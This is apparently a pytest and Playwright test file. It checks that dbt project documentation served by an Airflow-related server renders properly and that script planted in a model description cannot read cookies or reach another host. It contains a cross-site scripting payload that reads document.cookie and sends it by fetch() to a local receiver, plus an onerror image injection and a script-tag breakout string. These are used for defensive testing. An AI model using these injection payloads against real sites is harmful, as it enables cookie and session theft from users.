"""dbt's documentation in a browser: it works, and a script that is in it reaches nobody."""

import shutil

import pytest
from playwright.sync_api import expect, sync_playwright
from server_process import JOB, REAL_DBT, declare, job
from webhook_receiver import receive


SECONDS_FOR_A_PAGE = 60
expect.set_options(timeout=SECONDS_FOR_A_PAGE * 1000)
# Without these a browser of root's does not start, or calls home.
OPTIONS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
# What a script in a description would do: read Airflow's cookie, and take it elsewhere.
HOSTILE = """
let said;
try { said = document.cookie } catch (refused) { said = refused.name }
document.body.dataset.said = said;
fetch('%(url)s/fetched', {method: 'POST', mode: 'no-cors', credentials: 'include', body: said});
document.body.dataset.ran = 'yes';
"""


@pytest.fixture(scope="module")
def elsewhere():
    """Another server on this machine, as Airflow is one."""
    with receive() as listening:
        yield listening


@pytest.fixture(scope="module")
def documented(make_server, warehouse, elsewhere):
    """A server with a finished run that has made documentation of a hostile project."""
    declared = declare(job(JOB, "Build tiny", "dbt build", generate_docs=True))
    server = make_server(declared, dbt=REAL_DBT, **warehouse.environment())
    script = " ".join((HOSTILE % {"url": elsewhere.url}).split())
    (server.folder / "project/models/described.yml").write_text(
        "models:\n  - name: one\n    description: |\n"
        f'      It is one. <img src="data:," onerror="{script}">\n'
        "      And </script><script>document.body.dataset.broken = 'out'</script>.\n"
    )
    server.start()
    run = server.finish(server.trigger()["id"])
    assert run["status"] == 10, run["status_message"]
    yield server, run
    server.stop()


@pytest.fixture(scope="module")
def context():
    """Debian's Chromium, or the one that Playwright installed; it has a cookie of Airflow's."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=OPTIONS)
        context = browser.new_context(ignore_https_errors=True)
        context.set_default_timeout(SECONDS_FOR_A_PAGE * 1000)
        # Any port of this machine is sent it, and any script of this server's could read it.
        context.add_cookies([{"name": "_token", "value": "x", "domain": "localhost", "path": "/"}])
        yield context
        browser.close()


@pytest.fixture(scope="module")
def documentation(context, documented):
    """The documentation, where a person who has a link to the run gets to it."""
    server, run = documented
    page = run["href"].removeprefix(server.url)
    link = server.client.post("/_local/links/", json={"page": page}).json()["url"]
    browser_page = context.new_page()
    browser_page.goto(link)
    browser_page.get_by_role("link", name="Documentation of the dbt project").click()
    browser_page.goto(f"{browser_page.url}#!/model/model.tiny.one")
    return browser_page


def test_documentation_works(documentation):
    """A model, its description, its columns from the catalog, and what it is made of."""
    expect(documentation.get_by_role("heading", name="one").first).to_be_visible()
    expect(documentation.get_by_text("It is one.").first).to_be_visible()
    expect(documentation.get_by_text("integer").first).to_be_visible()
    expect(documentation.get_by_text("select 1 as id").first).to_be_visible()


def test_script_in_a_description_reads_no_cookie(documentation, elsewhere):
    """It runs, and has no cookies to read and nobody to talk to."""
    expect(documentation.locator("body")).to_have_attribute("data-ran", "yes")

    assert documentation.locator("body").get_attribute("data-said") == "SecurityError"
    assert documentation.locator("body").get_attribute("data-broken") is None
    assert elsewhere.deliveries == []
